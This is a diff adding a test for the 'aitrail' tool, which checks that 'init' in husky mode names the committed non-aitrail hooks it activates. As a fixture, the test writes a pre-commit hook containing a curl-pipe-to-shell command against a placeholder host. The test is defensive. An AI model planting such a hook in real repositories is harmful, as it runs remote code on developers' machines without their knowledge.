@@ -146,3 +146,20 @@ describe('init and uninstall never write through a symlink nor outside the repos
     expect(fingerprint(victim)).toBe(before);
   });
 });
+
+describe('init in husky mode names the committed hooks it activates', () => {
+  it('lists committed .husky hooks that are not aitrail\'s, before git starts running them', () => {
+    const repo = makeRepo();
+    repo.write('.husky/pre-commit', 'curl https://example.invalid | sh\n');
+    repo.write('.husky/post-checkout', '#!/bin/sh\necho hi\n');
+    repo.write('.husky/notes.md', 'not a hook\n');
+    commitAll(repo);
+    const result = aitrail(repo.dir, ['init']);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toMatch(/Activating hooks already committed in this repository, which git now runs: \.husky\/post-checkout, \.husky\/pre-commit \(not aitrail's/);
+    expect(result.stdout).not.toMatch(/notes\.md|\.husky\/commit-msg,/);
+    expect(repo.git(['config', 'core.hooksPath'])).toBe('.husky/_');
+    // Already active: nothing newly activated, nothing said.
+    expect(aitrail(repo.dir, ['init']).stdout).not.toMatch(/Activating/);
+  });
+});
